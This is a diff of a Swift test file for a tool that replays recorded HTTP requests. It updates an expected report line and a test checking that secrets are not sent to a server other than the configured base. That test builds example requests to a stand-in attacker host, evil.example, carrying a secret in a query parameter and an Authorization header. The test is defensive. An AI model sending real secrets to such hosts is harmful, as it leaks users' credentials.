@@ -132,7 +132,7 @@ struct DriftSurveyTests {
         #expect(sent.map(\.method) == [.get, .head])
         #expect(
             report.lines == [
-                "delete-c  DELETE /c", "  not asked: DELETE may change something; --all sends it all the same",
+                "delete-c  DELETE https://h/c", "  not asked: DELETE may change something; --all sends it all the same",
             ])
         #expect(report.summary == "2 recordings asked again, nothing drifted")
         let (_, all) = try await self.report(of: exchanges) { $0.methods = .all }
@@ -166,9 +166,9 @@ struct DriftSurveyTests {
     @Test("a folder that names another server is given no secret of this base")
     func hostile() async throws {
         let exchanges = [
-            exchange(.get, "https://evil.example/?k={{secret:KEY}}", secrets: ["KEY"]),
-            exchange(.get, "https://evil.example/b", ["Authorization: {{secret:KEY}}"], secrets: ["KEY"]),
-            exchange(.get, "https://evil.example/c"),
+            exchange(.get, "https://evil.example/?k={{secret:KEY}}", base: "https://api.h/", secrets: ["KEY"]),
+            exchange(.get, "https://evil.example/b", ["Authorization: {{secret:KEY}}"], base: "https://api.h/", secrets: ["KEY"]),
+            exchange(.get, "https://evil.example/c", base: "https://api.h/"),
         ]
         let base = try BaseURL("https://live.h/")
         let key = Secret("KEY", "live-key", from: .prompt)
